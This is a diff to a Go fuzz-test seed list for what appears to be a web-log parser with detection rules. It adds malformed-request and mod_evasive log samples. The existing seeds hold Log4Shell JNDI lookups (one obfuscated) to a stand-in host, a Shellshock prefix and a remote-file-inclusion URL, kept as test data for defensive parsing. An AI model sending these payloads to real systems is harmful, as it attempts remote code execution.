@@ -39,6 +39,9 @@ var fuzzSeeds = []string{
 	`crawl-66-249-66-1.googlebot.com - - [14/Jun/2004:09:00:00 +0000] "GET / HTTP/1.0" 200 1 "-" "Nikto"`,
 	`"192.168.4.164 - - [22/Dec/2016:15:19:05 +0300] "GET /DVWA/ HTTP/1.1" 200 2020 "-" "Mozilla/5.0""`,
 	`203.0.113.8 - - [06/May/2024:10:00:00 +0000] "GET /?p=http://x/y.txt? HTTP/1.1" 200 1 "${jndi:ldap://x/a}" "() { :; };" "${${::-j}ndi:x}"`,
+	`203.0.113.9 - - [06/May/2024:10:00:00 +0000] "GET / HTTP/9.9 x" 400 1 "-" "-"`,
+	"[Mon May 06 10:00:01.123456 2024] [evasive20:error] [pid 1234] [client 203.0.113.4:51234] client denied by server configuration: /var/www/html/",
+	"May  6 10:00:01 web1 mod_evasive[1234]: Blacklisting address 203.0.113.7: possible DoS attack.",
 }
 
 // FuzzParseLine runs arbitrary lines through every parser and the rules:
